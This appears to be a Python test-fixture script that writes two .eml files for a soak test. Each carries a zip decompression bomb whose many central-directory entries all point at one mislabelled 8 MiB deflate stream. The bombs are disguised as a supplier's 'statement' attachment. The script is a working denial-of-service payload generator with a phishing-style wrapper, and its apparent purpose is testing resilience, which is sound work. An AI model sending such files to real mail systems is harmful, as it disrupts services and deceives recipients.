#!/usr/bin/env python3
"""Writes the soak test's hostile mail into DIR: zip CPU bombs whose central-directory
entries all point at one deflate stream and lie about its size (the shape of issue 8's
"5.5 KB message that takes 18.5 s"), as RFC 5322 messages with the zip base64-encoded.

usage: hostile.py DIR
"""
import base64
import struct
import sys
import zlib
from pathlib import Path


def overlapping_zip(inflated_bytes: int, entries: int) -> bytes:
    """One local header and deflate stream; `entries` central-directory records point at it,
    each named like a nested archive and declaring a tiny uncompressed size."""
    # The stream inflates to what looks like the start of another archive, so a reader that
    # opens nested archives inflates all of it, once for every entry.
    payload = b"PK\x03\x04" + b"\0" * (inflated_bytes - 4)
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = co.compress(payload) + co.flush()
    crc = zlib.crc32(payload)
    name = b"inner.zip"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), 100,
                        len(name), 0) + name + data
    central = b""
    for i in range(entries):
        n = f"part{i:05}.zip".encode()
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc,
                               len(data), 100, len(n), 0, 0, 0, 0, 0, 0) + n
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, entries, entries, len(central),
                       len(local), 0)
    return local + central + eocd


def message(name: str, zip_bytes: bytes) -> bytes:
    b64 = base64.encodebytes(zip_bytes).decode()
    return (
        "From: Supplier <accounts@supplier.example>\r\n"
        "To: Staff <staff@demo-training.co.uk>\r\n"
        "Subject: Statement attached\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n'
        "--b1\r\nContent-Type: text/plain\r\n\r\nPlease find the statement attached.\r\n"
        f'--b1\r\nContent-Type: application/zip; name="{name}"\r\n'
        f'Content-Disposition: attachment; filename="{name}"\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\n"
        + b64.replace("\n", "\r\n")
        + "--b1--\r\n"
    ).encode()


def main() -> None:
    out = Path(sys.argv[1])
    out.mkdir(parents=True, exist_ok=True)
    small = message("statement.zip", overlapping_zip(8 << 20, 120))
    large = message("archive.zip", overlapping_zip(8 << 20, 12000))
    (out / "bomb-small.eml").write_bytes(small)
    (out / "bomb-large.eml").write_bytes(large)
    print(f"bomb-small.eml {len(small)} bytes, bomb-large.eml {len(large)} bytes")


if __name__ == "__main__":
    main()
